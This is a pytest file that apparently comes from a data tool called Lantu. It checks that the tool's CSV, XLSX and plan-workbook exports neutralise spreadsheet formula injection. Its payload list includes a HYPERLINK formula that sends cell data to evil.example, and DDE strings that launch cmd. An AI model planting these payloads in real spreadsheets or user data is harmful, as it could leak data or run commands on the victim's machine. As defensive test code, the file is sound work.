"""Formula injection (issue 12, class 1): text a user entered is never a live formula in any sheet
Lantu writes — the explorer's CSV/XLSX export, the task table, the plan workbook, the review
sheet of `lantu extract` — one escaping function (``lantu.tabular``) for all of them."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from lantu.store import users
from lantu.tabular import csv_rows, unescape_text
from webutil import fresh_db, make_client

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "'=1+1", "＝1+1"]


def no_formulas(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name


def risky(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def env(web_template_db, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("exports")
    db = fresh_db(web_template_db, tmp)
    with db.session() as s:
        token = users.create_api_token(s, "analyst", "x")
    with make_client(db, tmp / "home") as client:
        auth = {"Authorization": f"Bearer {token}"}
        for year, text in enumerate(PAYLOADS, start=2001):
            r = client.post("/api/v1/observations", headers=auth, json={
                "region_code": "140100", "period": str(year), "indicator": "gdp", "value": 1.0,
                "source_url": "https://example.gov.cn/a", "excerpt": text})
            assert r.status_code == 201, r.text
        yield client
    db.dispose()


def test_explorer_csv_escapes_every_text_cell(env):
    r = env.get("/indicators/export.csv", params={"indicator": "gdp", "region": "140100",
                                                  "from": "2001", "to": "2008"})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    excerpts = [row[rows[0].index("excerpt")] for row in rows[1:]]
    assert len(excerpts) == len(PAYLOADS)
    assert not any(risky(e) for e in excerpts)
    assert sorted(unescape_text(e) for e in excerpts) == sorted(PAYLOADS)


def test_explorer_xlsx_has_no_formula(env):
    r = env.get("/indicators/export.xlsx", params={"indicator": "gdp", "region": "140100",
                                                   "from": "2001", "to": "2008"})
    assert r.status_code == 200
    no_formulas(r.content)
    ws = openpyxl.load_workbook(io.BytesIO(r.content))["data"]
    col = [c.value for c in ws[1]].index("excerpt")
    texts = sorted(row[col].value for row in ws.iter_rows(min_row=2))
    assert texts == sorted(PAYLOADS)  # in XLSX a string cell keeps the text as it was


def test_plan_workbook_and_task_csv_write_titles_as_text(tmp_path):
    import pandas as pd

    from lantu.ingest.plan_export import write_task_table
    from lantu.tabular import csv_frame

    plan = {"children": [{"code": "1", "title": PAYLOADS[0], "text": "-加快" + PAYLOADS[1],
                          "kind": "task", "lead": "=cmd", "supporting": ["@x"], "due": None,
                          "children": []}]}
    out = write_task_table(plan, tmp_path / "plan.xlsx")
    no_formulas(out.read_bytes())
    assert openpyxl.load_workbook(out).active["B2"].value == PAYLOADS[0]
    assert not risky(csv_frame(pd.DataFrame({"t": ["-1+1"]})).splitlines()[1])


def test_the_one_csv_writer_round_trips():
    text = csv_rows([["excerpt"]] + [[p] for p in PAYLOADS])
    back = [unescape_text(r[0]) for r in list(csv.reader(io.StringIO(text, newline="")))[1:]]
    assert back == PAYLOADS
